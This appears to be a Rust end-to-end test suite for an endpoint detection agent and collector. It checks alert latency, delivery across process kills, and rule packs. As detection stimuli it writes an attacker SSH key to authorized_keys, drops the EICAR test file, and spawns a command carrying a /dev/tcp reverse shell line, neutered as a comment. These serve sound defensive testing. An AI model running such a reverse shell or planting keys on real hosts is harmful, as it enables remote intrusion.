//! End to end with real collector and agent processes, the agent watching a
//! temporary directory: detections reach the collector's API within 2 s, and
//! nothing is lost or doubled across a collector outage or an agent kill -9.

use std::time::{Duration, Instant};

use ward_tests::*;

const EICAR: &[u8] = br"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";

/// The outbox depth `ward-agent status` reports.
fn outbox_depth(status: &str) -> u64 {
    status
        .lines()
        .find_map(|l| l.strip_prefix("outbox: "))
        .and_then(|l| l.split_whitespace().next())
        .and_then(|n| n.parse().ok())
        .unwrap_or(0)
}

fn rule_title(a: &serde_json::Value) -> String {
    a["rule"]["title"].as_str().unwrap_or_default().to_lowercase()
}

/// Each sensor says what it sees, in `ward-agent status` and on the collector's
/// device record (protocol 1.5): the watched directory is ready with its watch count,
/// the sensors the test turns off say so.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sensors_report_what_they_see_to_status_and_the_collector() {
    let collector = Collector::start().unwrap();
    let agent = Agent::start(&collector).unwrap();
    agent.wait_connected(Duration::from_secs(15)).unwrap();
    let dev = agent.device_id.clone();
    let deadline = Instant::now() + Duration::from_secs(15);
    let device = loop {
        let (_, device) = collector.get(&format!("/api/v1/devices/{dev}")).await.unwrap();
        let ready = device["sensors"]
            .as_array()
            .is_some_and(|s| s.iter().any(|s| s["name"] == "file" && s["readiness"] == "ready"));
        if ready {
            break device;
        }
        assert!(Instant::now() < deadline, "no sensor report: {device}");
        tokio::time::sleep(Duration::from_millis(200)).await;
    };
    let sensor = |name: &str| -> serde_json::Value {
        device["sensors"]
            .as_array()
            .unwrap()
            .iter()
            .find(|s| s["name"] == name)
            .cloned()
            .unwrap_or_else(|| panic!("no {name} sensor: {device}"))
    };
    assert!(
        sensor("file")["source"]
            .as_str()
            .unwrap()
            .starts_with("inotify: 1 roots, "),
        "{device}"
    );
    // As root the eBPF exec source runs; without root the /proc fallback says why.
    if is_root() {
        assert_eq!(
            (&sensor("process")["readiness"], &sensor("process")["source"]),
            (&"ready".into(), &"eBPF sched_process_exec".into()),
            "{device}"
        );
        assert_eq!(sensor("process_connector")["readiness"], "off", "{device}");
        assert_eq!(sensor("network")["readiness"], "ready", "{device}");
    } else {
        assert_eq!(sensor("process")["readiness"], "degraded", "{device}");
        assert!(
            sensor("process")["detail"]
                .as_str()
                .is_some_and(|d| d.contains("eBPF exec source unavailable")),
            "{device}"
        );
    }
    for off in ["auth", "audit"] {
        assert_eq!(sensor(off)["readiness"], "off", "{device}");
        assert_eq!(sensor(off)["detail"], "turned off in the configuration", "{device}");
    }
    assert!(device["sensors_at_ms"].as_i64().unwrap() > 0, "{device}");
    let status = agent.status().unwrap();
    assert!(status.contains("sensor file: ready (inotify: 1 roots, "), "{status}");
    assert!(
        status.contains("sensor auth: off: turned off in the configuration"),
        "{status}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn detections_reach_the_api_within_two_seconds() {
    let collector = Collector::start().unwrap();
    let agent = Agent::start(&collector).unwrap();
    agent.wait_connected(Duration::from_secs(15)).unwrap();
    let dev = agent.device_id.clone();

    // The EICAR test file, matched by its SHA-256.
    let t = Instant::now();
    std::fs::write(agent.watch.join("invoice.pdf.exe"), EICAR).unwrap();
    let alert = collector
        .wait_alert(&dev, Duration::from_secs(2), |a| {
            a["entities"].as_array().is_some_and(|e| {
                e.iter()
                    .any(|e| e["sha256"] == "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f")
            })
        })
        .await
        .unwrap();
    eprintln!("EICAR alert after {:?}: {}", t.elapsed(), alert["rule"]["title"]);
    assert_eq!(alert["rule"]["author"], "Ward");
    assert!(
        alert["entities"]
            .as_array()
            .unwrap()
            .iter()
            .any(|e| e["kind"] == "device")
    );

    // A new SSH authorized key.
    let ssh = agent.watch.join("home/alice/.ssh");
    std::fs::create_dir_all(&ssh).unwrap();
    tokio::time::sleep(Duration::from_millis(300)).await; // the new directory gets its watch
    let t = Instant::now();
    std::fs::write(
        ssh.join("authorized_keys"),
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB attacker@evil\n",
    )
    .unwrap();
    let alert = collector
        .wait_alert(&dev, Duration::from_secs(2), |a| {
            a["matched"].to_string().contains("authorized_keys") || rule_title(a).contains("authorized")
        })
        .await
        .unwrap();
    eprintln!(
        "authorized_keys alert after {:?}: {}",
        t.elapsed(),
        alert["rule"]["title"]
    );
    assert!(alert["rule"]["techniques"].to_string().contains("T1098"), "{alert}");

    // A command line that looks like a reverse shell.
    let t = Instant::now();
    let mut child = std::process::Command::new("/bin/sh")
        .args(["-c", "sleep 1 # bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"])
        .spawn()
        .unwrap();
    let alert = collector
        .wait_alert(&dev, Duration::from_secs(2), |a| {
            a["matched"].to_string().contains("/dev/tcp/")
        })
        .await
        .unwrap();
    eprintln!(
        "reverse shell alert after {:?}: {}",
        t.elapsed(),
        alert["rule"]["title"]
    );
    let _ = child.wait();
    assert_eq!(alert["severity"], "high");
    assert!(
        alert["entities"]
            .as_array()
            .unwrap()
            .iter()
            .any(|e| e["kind"] == "process")
    );
    assert!(
        alert["entities"]
            .as_array()
            .unwrap()
            .iter()
            .any(|e| e["kind"] == "ip" && e["addr"] == "203.0.113.5")
    );
}

/// A collector killed with SIGKILL sends its agents no close. Its successor answers
/// the agent's next keep-alive (every 15 s) with a stateless reset the agent accepts,
/// because the reset keys live in the data dir: the agent is back then, not after its
/// 60 s idle timeout (75 s in all, as it was).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_agent_notices_a_killed_collector_at_its_next_keep_alive() {
    let mut collector = Collector::start().unwrap();
    let agent = Agent::start(&collector).unwrap();
    agent.wait_connected(Duration::from_secs(15)).unwrap();
    let dev = agent.device_id.clone();
    let online = |d: &serde_json::Value| d["online"] == serde_json::json!(true);
    let deadline = Instant::now() + Duration::from_secs(15);
    while !online(&collector.get(&format!("/api/v1/devices/{dev}")).await.unwrap().1) {
        assert!(Instant::now() < deadline, "the agent never showed online");
        tokio::time::sleep(Duration::from_millis(100)).await;
    }

    collector.kill9();
    collector.serve().unwrap();
    let restarted = Instant::now();
    loop {
        let (_, d) = collector.get(&format!("/api/v1/devices/{dev}")).await.unwrap();
        if online(&d) {
            break;
        }
        assert!(
            restarted.elapsed() < Duration::from_secs(30),
            "the agent was not back 30 s after the restart (keep-alive 15 s, idle timeout 60 s): {d}\n{}",
            agent.status().unwrap_or_default()
        );
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    eprintln!("agent back {:?} after the restart", restarted.elapsed());
}

/// Stop the collector, cause 1,000 alerts, start it again: all 1,000 arrive,
/// once each. Then kill -9 the agent while it sends: nothing doubles or goes missing.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn offline_alerts_arrive_once_and_survive_agent_kill() {
    // Folding off at both ends, so every file is an alert of its own in the outbox
    // (`floods_fold_into_one_alert_and_one_incident` tests folding).
    let mut collector = Collector::start_with(without_folding).unwrap();
    let mut agent = Agent::start_with(&collector, |w| {
        format!("{}\n[detection]\naggregate_window_ms = 0\n", Agent::test_config(w))
    })
    .unwrap();
    agent.wait_connected(Duration::from_secs(15)).unwrap();
    let dev = agent.device_id.clone();

    collector.stop().unwrap();
    // 1,000 distinct EICAR drops: distinct files are distinct alerts (no folding).
    for i in 0..1000 {
        std::fs::write(agent.watch.join(format!("drop-{i:04}.bin")), EICAR).unwrap();
        if i % 100 == 99 {
            std::thread::sleep(Duration::from_millis(50));
        }
    }
    // Wait until the agent has all of them in its outbox.
    let deadline = Instant::now() + Duration::from_secs(60);
    loop {
        let status = agent.status().unwrap();
        if outbox_depth(&status) >= 1000 {
            break;
        }
        assert!(Instant::now() < deadline, "outbox never reached 1000: {status}");
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    collector.serve().unwrap();
    let deadline = Instant::now() + Duration::from_secs(60);
    while collector.alert_counts(&dev, "drop-").unwrap().0 < 1000 {
        assert!(
            Instant::now() < deadline,
            "only {:?} arrived",
            collector.alert_counts(&dev, "drop-").unwrap()
        );
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    assert_eq!(collector.alert_counts(&dev, "drop-").unwrap(), (1000, 1000));

    // kill -9 the agent in the middle of sending a second burst.
    collector.stop().unwrap();
    for i in 0..500 {
        std::fs::write(agent.watch.join(format!("second-{i:04}.bin")), EICAR).unwrap();
    }
    let deadline = Instant::now() + Duration::from_secs(60);
    while outbox_depth(&agent.status().unwrap()) < 500 {
        assert!(
            Instant::now() < deadline,
            "outbox never reached 500: {}",
            agent.status().unwrap()
        );
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    collector.serve().unwrap();
    let deadline = Instant::now() + Duration::from_secs(30);
    while collector.alert_counts(&dev, "second-").unwrap().0 < 100 {
        assert!(Instant::now() < deadline, "the second burst did not start arriving");
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
    agent.kill9();
    agent.run().unwrap();
    let deadline = Instant::now() + Duration::from_secs(60);
    while collector.alert_counts(&dev, "second-").unwrap().0 < 500 {
        assert!(
            Instant::now() < deadline,
            "only {:?} arrived after the kill",
            collector.alert_counts(&dev, "second-").unwrap()
        );
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    tokio::time::sleep(Duration::from_secs(1)).await;
    let counts = collector.alert_counts(&dev, "second-").unwrap();
    if counts != (500, 500) {
        // Which files, and how each alert came (seq, times, matched), to tell a sensor
        // double report from a re-delivery.
        let db = collector.db().unwrap();
        let mut stmt = db
            .prepare(
                "SELECT a.seq, a.observed_at_ms, a.received_at_ms, a.entities, a.matched FROM alerts a
                 WHERE a.device_id = ?1 AND a.entities LIKE '%second-%' AND (
                   SELECT COUNT(*) FROM alerts b WHERE b.device_id = a.device_id AND b.entities = a.entities) > 1",
            )
            .unwrap();
        let doubled: Vec<String> = stmt
            .query_map([&dev], |r| {
                Ok(format!(
                    "seq {} observed {} received {} {} {}",
                    r.get::<_, i64>(0)?,
                    r.get::<_, i64>(1)?,
                    r.get::<_, i64>(2)?,
                    r.get::<_, String>(3)?,
                    r.get::<_, String>(4)?
                ))
            })
            .unwrap()
            .map(Result::unwrap)
            .collect();
        panic!("second burst: {counts:?} alerts; repeated: {doubled:#?}");
    }
    assert_eq!(collector.alert_counts(&dev, "drop-").unwrap(), (1000, 1000));
    let gaps: i64 = collector
        .db()
        .unwrap()
        .query_row("SELECT COUNT(*) FROM sequence_gaps", [], |r| r.get(0))
        .unwrap();
    assert_eq!(gaps, 0);
}

/// With no rule on disk and no pack pushed, the agent runs the default pack: the
/// vetted SigmaHQ rules alert, with their SigmaHQ author.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_default_pack_runs_sigmahq_rules_with_their_authors() {
    let collector = Collector::start().unwrap();
    let agent = Agent::start(&collector).unwrap();
    agent.wait_connected(Duration::from_secs(15)).unwrap();
    let status = agent.status().unwrap();
    let on = ward_detect::defaultpack::SIGMAHQ_RULES
        .iter()
        .filter(|r| ward_detect::defaultpack::sigmahq_off_reason(r).is_none())
        .count();
    let rules = ward_detect::BUILTIN_RULES.len() + on;
    assert!(status.contains(&format!("({rules} rules, 0 skipped)")), "{status}");

    // "#!/bin/bash" in base64 on a command line: SigmaHQ's fe2f9663 (medium).
    let out = std::process::Command::new("/bin/echo")
        .arg("IyEvYmluL2Jhc2gK-ward-e2e")
        .output()
        .unwrap();
    assert!(out.status.success());
    let alert = collector
        .wait_alert(&agent.device_id, Duration::from_secs(10), |a| {
            a["rule"]["id"] == "fe2f9663-41cb-47e2-b954-8a228f3b9dff"
                && a["entities"].to_string().contains("IyEvYmluL2Jhc2gK-ward-e2e")
        })
        .await
        .unwrap();
    assert_eq!(alert["rule"]["author"], "Nasreddine Bencherchali (Nextron Systems)");
    assert_eq!(alert["rule"]["techniques"], serde_json::json!(["T1140"]));
}

/// `ward-collector rules push` validates, signs and pushes a pack; the agent
/// verifies it, swaps it in, keeps it across a restart, and detects with it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn pushed_rule_pack_runs_on_the_agent() {
    let collector = Collector::start().unwrap();
    let mut agent = Agent::start(&collector).unwrap();
    agent.wait_connected(Duration::from_secs(15)).unwrap();

    let bad = tempfile::tempdir().unwrap();
    std::fs::write(bad.path().join("broken.yml"), "title: broken\ndetection: [unclosed\n").unwrap();
    let err = collector
        .cli(&["rules", "push", bad.path().to_str().unwrap()])
        .unwrap_err()
        .to_string();
    assert!(err.contains("broken.yml") && err.contains("nothing pushed"), "{err}");

    // A copy of a shipped rule is refused even when it is off by default (a low-level
    // SigmaHQ rule): turning it on later on a device would collide with the push.
    let low = ward_detect::defaultpack::SIGMAHQ_RULES
        .iter()
        .find(|r| r.level == "low")
        .unwrap();
    let dup = tempfile::tempdir().unwrap();
    std::fs::write(dup.path().join("copy.yml"), low.yaml).unwrap();
    let err = collector
        .cli(&["rules", "push", dup.path().to_str().unwrap()])
        .unwrap_err()
        .to_string();
    assert!(err.contains(low.id) && err.contains("already loaded"), "{err}");

    let rules = tempfile::tempdir().unwrap();
    std::fs::write(
        rules.path().join("canary.yml"),
        r#"title: Canary File Touched
id: 6f1d2c1e-0000-4000-8000-00000000c0de
author: Test Author
logsource:
    product: linux
    category: file_event
detection:
    selection:
        TargetFilename|endswith: '/ward-canary.txt'
    condition: selection
level: medium
tags:
    - attack.collection
    - attack.t1005
"#,
    )
    .unwrap();
    let out = collector
        .cli(&["rules", "push", rules.path().to_str().unwrap()])
        .unwrap();
    assert!(out.contains("rule pack 1 with 1 rules"), "{out}");
    let running = |agent: &Agent| agent.status().unwrap().contains("rule pack: version 1");
    let deadline = Instant::now() + Duration::from_secs(10);
    while !running(&agent) {
        assert!(
            Instant::now() < deadline,
            "pack not running: {}",
            agent.status().unwrap()
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    }

    // Kept as the last known good pack across a restart.
    agent.kill9();
    agent.run().unwrap();
    agent.wait_connected(Duration::from_secs(15)).unwrap();
    assert!(running(&agent), "{}", agent.status().unwrap());

    std::fs::write(agent.watch.join("ward-canary.txt"), "tweet").unwrap();
    let alert = collector
        .wait_alert(&agent.device_id, Duration::from_secs(2), |a| {
            a["rule"]["title"] == "Canary File Touched"
        })
        .await
        .unwrap();
    assert_eq!(alert["rule"]["author"], "Test Author");
    assert_eq!(alert["rule"]["tactics"][0], "TA0009");
}
